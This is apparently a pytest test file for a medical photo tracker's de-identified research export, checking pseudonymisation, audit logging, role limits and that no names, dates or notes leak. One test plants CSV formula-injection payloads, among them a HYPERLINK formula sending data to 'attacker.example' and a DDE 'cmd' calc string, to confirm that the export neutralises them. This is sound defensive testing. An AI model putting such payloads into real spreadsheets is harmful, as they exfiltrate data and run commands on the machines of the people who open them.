"""De-identified research export (`tracker export`): the demo store, read back with pandas.

Besides the two demo patients, the store holds a third patient imported with a
real display name, a named treated area and identifying file names, and a
provider's note full of names, dates and times: none of it may leave.
"""

from __future__ import annotations

import csv
import hashlib
import os
import re
import shutil
import subprocess
import sys
from datetime import date
from pathlib import Path

import pandas as pd
from PIL import Image
import pytest
from sqlalchemy import func, select

from conftest import demo_passwords

from tracker import services as sv
from tracker.services.demo import load_demo
from tracker.services.exports import NULLABLE_BOOLEANS, column_order, data_dictionary, export_table, write_export
from tracker.services.importer import read_manifest, run_import
from tracker.analysis.metrics import METRIC_VERSION, METRICS
from tracker.store.db import open_store
from tracker.store.models import AuditEvent, Photo

TRACKER = shutil.which("tracker", path=str(Path(sys.executable).parent)) or "tracker"
SAMPLES = Path(__file__).resolve().parents[1] / "sample_images"

with open(SAMPLES / "manifest.csv", newline="", encoding="utf-8") as _fh:
    DEMO = list(csv.DictReader(_fh))

# The third patient: everything here is personal and must stay in the store.
JANE = {"reference": "clinic-0042", "name": "Jane Q. Doe", "area": "left cheek beside the mole",
        "treatment": "ipl", "treated_on": "2026-02-09"}
JANE_PHOTOS = {"jane-doe-before.jpg": ("demo-ben/day-02_baseline.jpg", "2026-02-08T16:20"),
               "jane-doe-after-ipl.jpg": ("demo-ben/day01.jpg", "2026-02-10T09:05")}
NOTE = "Jane Q. Doe phoned on 2026-03-04 at 14:30: itching near the left ear, husband Bob."

STATUSES = {"ahead", "on_track", "slower", "review", "not_assessed"}
DATE = re.compile(r"\d{4}-\d{2}-\d{2}|\d{1,2}/\d{1,2}/\d{2,4}|\d{4}:\d{2}:\d{2}")
TIME = re.compile(r"\b\d{1,2}:\d{2}\b")


@pytest.fixture(scope="module")
def demo_store(demo_dir, tmp_path_factory):
    """The demo, the third patient and a note, in an embedded store."""
    folder = tmp_path_factory.mktemp("export")
    store = open_store(demo_dir)
    for name, (source, _) in JANE_PHOTOS.items():
        shutil.copy(SAMPLES / source, folder / name)
    manifest = folder / "jane.csv"
    with open(manifest, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["patient", "name", "treatment", "treated_on", "photo", "taken_on", "area", "roi",
                         "control"])
        for name, (_, taken_on) in JANE_PHOTOS.items():
            writer.writerow([JANE["reference"], JANE["name"], JANE["treatment"], JANE["treated_on"], name, taken_on,
                             JANE["area"], DEMO[-1]["roi"], DEMO[-1]["control"]])
    assert {o.status for o in run_import(store, read_manifest(manifest))} == {"imported"}
    password = demo_passwords(demo_dir)["dr.rivera"]
    _, provider = sv.sign_in(store, "dr.rivera", password)
    admin = sv.Actor(role="admin")
    jane_id = sv.find_patient_id(store, sv.SYSTEM, JANE["reference"])
    sv.assign_patient(store, admin, provider.user_id, jane_id)
    sv.add_note(store, provider, jane_id, NOTE)
    sv.record_consent(store, provider, jane_id)
    sv.add_note(store, provider, sv.find_patient_id(store, sv.SYSTEM, "demo-ana"), "Ana: follow-up 2026-03-16 10:00.")
    yield store
    store.close()


@pytest.fixture(scope="module")
def exported(demo_store, tmp_path_factory):
    """The export written as CSV and as Parquet, read back: (csv table, parquet table, folder)."""
    folder = tmp_path_factory.mktemp("out")
    rows_csv, dictionary_csv, left_out = write_export(demo_store, sv.SYSTEM, folder / "metrics.csv", "csv")
    rows_parquet, dictionary_parquet, _ = write_export(demo_store, sv.SYSTEM, folder / "metrics.parquet", "parquet")
    assert rows_csv == rows_parquet == 19 and left_out == 0
    assert dictionary_csv == folder / "metrics.dictionary.csv"
    assert dictionary_parquet == folder / "metrics.dictionary.csv"
    # Text columns that pandas would otherwise guess to be numbers ("1.0", an all-digit pseudonym).
    text = {name: str for name in ("patient_pseudonym", "course_pseudonym", "metric_version")}
    # Yes/no columns that may be empty are read as such, as the dictionary's "boolean" says.
    text.update(dict.fromkeys(NULLABLE_BOOLEANS, "boolean"))
    return pd.read_csv(folder / "metrics.csv", dtype=text), pd.read_parquet(folder / "metrics.parquet"), folder


def _photo_count(store) -> int:
    with store.session() as s:
        return s.scalar(select(func.count()).select_from(Photo))


def test_one_row_per_photo_with_every_column(demo_store, exported):
    table_csv, table_parquet, _ = exported
    for table in (table_csv, table_parquet):
        assert list(table.columns) == column_order()
        assert len(table) == _photo_count(demo_store) == 19
    assert set(METRICS) <= set(column_order())
    # CSV has no empty text apart from a missing value.
    pd.testing.assert_frame_equal(table_csv, table_parquet.replace("", None), check_dtype=False)
    assert (table_parquet["metric_version"] == METRIC_VERSION).all()
    assert table_parquet.groupby("course_pseudonym")["is_baseline"].sum().tolist() == [1, 1, 1]
    measured = table_parquet[table_parquet["analysis_ok"]]
    assert len(measured) >= 17
    # Every metric is measured on every measured photo, except the area in cm² (only with a colour
    # chart in the baseline, and the demo has none) and texture (withheld when the focus differs).
    always = [n for n in METRICS if n != "erythema_area_cm2" and not n.startswith(("texture_", "lbp_", "hf_"))]
    assert measured[always].notna().all().all()
    assert measured["erythema_area_cm2"].isna().all()
    # The tone curve's form is said for every fitted correction, and only for those.
    fitted = table_parquet["colour_method"].isin(["reference_skin", "surroundings"])
    assert fitted.sum() >= 14 and set(table_parquet.loc[fitted, "colour_tone"]) <= {"encoded", "linear"}
    assert table_parquet.loc[~fitted, "colour_tone"].replace("", None).isna().all()


def _texts(table: pd.DataFrame) -> list[str]:
    return list(table.columns) + [str(v) for v in table.astype(str).to_numpy().ravel()]


def test_nothing_identifying_leaves(demo_store, exported):
    table_csv, table_parquet, folder = exported
    with demo_store.session() as s:
        hashes = list(s.scalars(select(Photo.content_hash)))
    forbidden = (["demo-ana", "demo-ben", JANE["reference"], JANE["name"], "Jane", "Doe", JANE["area"], "mole",
                  "itching", "Bob", "follow-up"]
                 + [Path(r["photo"]).stem for r in DEMO] + [Path(n).stem for n in JANE_PHOTOS]
                 + [h[:16] for h in hashes])
    for table in (table_csv, table_parquet):
        assert not any(pd.api.types.is_datetime64_any_dtype(t) for t in table.dtypes)
        for text in _texts(table):
            assert not DATE.search(text) and not TIME.search(text), text
            for word in forbidden:
                assert word.lower() not in text.lower(), (word, text)
    raw = (folder / "metrics.csv").read_text(encoding="utf-8")
    assert not DATE.search(raw) and not TIME.search(raw)


def test_pseudonyms_are_stable_distinct_and_keyed(demo_store, exported, tmp_path):
    _, table, _ = exported
    again = export_table(demo_store, sv.SYSTEM)
    pd.testing.assert_frame_equal(again, export_table(demo_store, sv.SYSTEM))
    assert again["patient_pseudonym"].tolist() == table["patient_pseudonym"].tolist()
    by_treatment = table.groupby("treatment")["patient_pseudonym"].unique()
    assert all(len(p) == 1 for p in by_treatment)
    patients = {p[0] for p in by_treatment}
    assert len(patients) == 3 and all(re.fullmatch(r"[0-9a-f]{16}", p) for p in patients)
    assert table["course_pseudonym"].nunique() == 3
    assert not patients & set(table["course_pseudonym"])
    # Keyed: not a plain hash of the identifier anyone could recompute.
    for reference in ("demo-ana", "demo-ben", JANE["reference"]):
        for guess in (reference, f"patient:{reference}"):
            assert hashlib.sha256(guess.encode()).hexdigest()[:16] not in patients

    # Another installation (its own data directory, so its own key) over the same database.
    other = open_store(tmp_path / "other", f"sqlite:///{demo_store.data_dir / 'tracker.db'}")
    try:
        assert other.secret_key != demo_store.secret_key
        elsewhere = export_table(other, sv.SYSTEM)
    finally:
        other.close()
    assert not set(elsewhere["patient_pseudonym"]) & patients
    assert not set(elsewhere["course_pseudonym"]) & set(table["course_pseudonym"])
    pseudonyms = ["patient_pseudonym", "course_pseudonym"]
    pd.testing.assert_frame_equal(elsewhere.drop(columns=pseudonyms), again.drop(columns=pseudonyms))


def test_days_since_treatment_and_course_status(exported):
    _, table, _ = exported
    assert set(table["course_status"]) <= STATUSES
    assert set(table.loc[table["treatment"] == "non_ablative_fractional", "course_status"]) <= {"review", "slower"}
    assert set(table.loc[table["treatment"] == "fractional_co2", "course_status"]) <= {"on_track", "ahead"}
    expected = {}
    for r in DEMO:
        days = (date.fromisoformat(r["taken_on"]) - date.fromisoformat(r["treated_on"])).days
        expected.setdefault(r["treatment"], []).append(days)
    expected[JANE["treatment"]] = [-1, 1]  # 2026-02-08 16:20 and 2026-02-10 09:05 after 2026-02-09
    for treatment, days in expected.items():
        rows = table[table["treatment"] == treatment]
        assert rows["days_since_treatment"].tolist() == sorted(days), treatment
        assert rows["is_baseline"].tolist() == [True] + [False] * (len(days) - 1)
        assert rows["session"].tolist() == [0 if d < 0 else 1 for d in sorted(days)]
    assert table.loc[table["treatment"] == "fractional_co2", "skin_type"].unique().tolist() == ["II"]


def test_data_dictionary_is_generated_from_the_metric_definitions(exported):
    _, _, folder = exported
    dictionary = pd.read_csv(folder / "metrics.dictionary.csv", keep_default_na=False)
    assert dictionary.columns.tolist() == ["column", "meaning", "units", "source"]
    assert dictionary["column"].tolist() == column_order()
    pd.testing.assert_frame_equal(dictionary, data_dictionary().fillna(""), check_dtype=False)
    assert (dictionary["meaning"].str.len() > 20).all()
    metrics = dictionary.set_index("column").loc[list(METRICS)]
    for name, definition in METRICS.items():
        assert metrics.loc[name, "units"] == definition.units != ""
        assert metrics.loc[name, "source"] == definition.source != ""
        assert definition.label in metrics.loc[name, "meaning"]
        assert definition.formula in metrics.loc[name, "meaning"]


def test_export_is_audited_and_limited_to_researchers(demo_store, tmp_path):
    with demo_store.session() as s:
        before = s.scalar(select(func.count()).select_from(AuditEvent).where(AuditEvent.action == "export"))
    export_table(demo_store, sv.Actor(role="researcher", user_id=3))
    with demo_store.session() as s:
        events = s.scalars(select(AuditEvent).where(AuditEvent.action == "export").order_by(AuditEvent.id)).all()
    assert len(events) == before + 1
    assert events[-1].actor_id == 3 and events[-1].detail == "19 rows, 0 patients left out without consent"
    for role in ("patient", "provider"):
        with pytest.raises(sv.AccessDenied):
            write_export(demo_store, sv.Actor(role=role, user_id=4, patient_id=1), tmp_path / f"{role}.csv", "csv")
        assert not (tmp_path / f"{role}.csv").exists()


def test_same_table_from_either_database(store, exported):
    load_demo(store)
    table = export_table(store, sv.SYSTEM)
    _, reference, _ = exported
    demo_rows = reference[reference["treatment"] != JANE["treatment"]].reset_index(drop=True)
    assert len(table) == 17
    pseudonyms = ["patient_pseudonym", "course_pseudonym"]
    pd.testing.assert_frame_equal(table.drop(columns=pseudonyms), demo_rows.drop(columns=pseudonyms),
                                  check_dtype=False)


def test_export_from_the_command_line(demo_store, exported, tmp_path):
    out = tmp_path / "research" / "cohort.parquet"
    env = {**os.environ, "TRACKER_DATA_DIR": str(demo_store.data_dir)}
    result = subprocess.run([TRACKER, "export", "--format", "parquet", "--out", str(out)], capture_output=True,
                            text=True, timeout=120, env=env)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == (f"19 rows written to {out}; data dictionary in "
                                     f"{out.with_name('cohort.dictionary.csv')}.\n"
                                     "Every patient consented to research use; none was left out.")
    _, table, _ = exported
    pd.testing.assert_frame_equal(pd.read_parquet(out), table)
    assert pd.read_csv(out.with_name("cohort.dictionary.csv"))["column"].tolist() == column_order()

    wrong = subprocess.run([TRACKER, "export", "--format", "xlsx", "--out", str(tmp_path / "x.xlsx")],
                           capture_output=True, text=True, timeout=120, env=env)
    assert wrong.returncode == 2
    assert wrong.stderr.strip() == "tracker: error: --format must be csv, parquet or fhir"
    assert not (tmp_path / "x.xlsx").exists()


def test_a_formula_that_reached_the_store_leaves_as_text_in_csv_parquet_and_the_dictionary(store, tmp_path):
    """CSV formula injection (issue #13, finding 10): cells starting with = + - @ tab or CR are neutralised."""
    from tracker.store.models import Analysis

    load_demo(store)
    formulas = {"quality": '=HYPERLINK("http://attacker.example/?"&A1,"Click")', "colour": "+cmd|' /C calc'!A0",
                "metric_version": "@SUM(1+1)*cmd"}
    with store.session() as s:  # e.g. written by an older version, or by hand into the database
        analysis = s.scalars(select(Analysis).order_by(Analysis.id)).first()
        result = dict(analysis.result)
        result["quality"] = {**result["quality"], "codes": [formulas["quality"]]}
        result["colour"] = {**(result.get("colour") or {}), "method": formulas["colour"]}
        result["metric_version"] = formulas["metric_version"]
        analysis.result = result
    for fmt in ("csv", "parquet"):
        write_export(store, sv.SYSTEM, tmp_path / f"cohort.{fmt}", fmt)
    with open(tmp_path / "cohort.csv", newline="", encoding="utf-8") as fh:
        cells = list(csv.DictReader(fh))
    parquet = pd.read_parquet(tmp_path / "cohort.parquet")
    for table in (cells, parquet.to_dict("records")):
        tampered = [row for row in table if str(row["quality_issues"]).startswith("'")]
        assert len(tampered) == 1
        assert (tampered[0]["quality_issues"], tampered[0]["colour_method"], tampered[0]["metric_version"]) == (
            "'" + formulas["quality"], "'" + formulas["colour"], "'" + formulas["metric_version"])
        text_cells = [v for row in table for k, v in row.items() if isinstance(v, str) and k not in (
            "days_since_treatment", "days_since_session") and not _number(v)]
        assert not [v for v in text_cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    dictionary = pd.read_csv(tmp_path / "cohort.dictionary.csv")
    assert not [v for v in dictionary.to_numpy().ravel()
                if isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_mirrored_selfie_is_marked_in_the_export(sqlite_store, tmp_path):
    """A photo matched flipped back says so in its row, so a researcher can leave such photos out."""
    rows = [r for r in DEMO if r["patient"] == "demo-ben"][:3]
    names = []
    for i, row in enumerate(rows):
        name = f"photo{i}.jpg"
        image = Image.open(SAMPLES / row["photo"])
        if i == 2:  # the day's photo saved mirrored, as a front camera does
            image = image.transpose(Image.Transpose.FLIP_LEFT_RIGHT)
        image.save(tmp_path / name, quality=92)
        names.append(name)
    manifest = tmp_path / "selfie.csv"
    with open(manifest, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows({**row, "photo": name} for row, name in zip(rows, names))
    assert {o.status for o in run_import(sqlite_store, read_manifest(manifest))} == {"imported"}
    sv.record_consent(sqlite_store, sv.Actor(role="admin"), sv.find_patient_id(sqlite_store, sv.SYSTEM, "demo-ben"))
    table = export_table(sqlite_store, sv.SYSTEM).sort_values("days_since_treatment")
    assert table["analysis_ok"].tolist() == [True, True, True]
    assert table["alignment_mirrored"].dtype == "boolean"
    assert table["alignment_mirrored"].tolist() == [False, False, True]
    assert "alignment_mirrored" in data_dictionary()["column"].tolist()
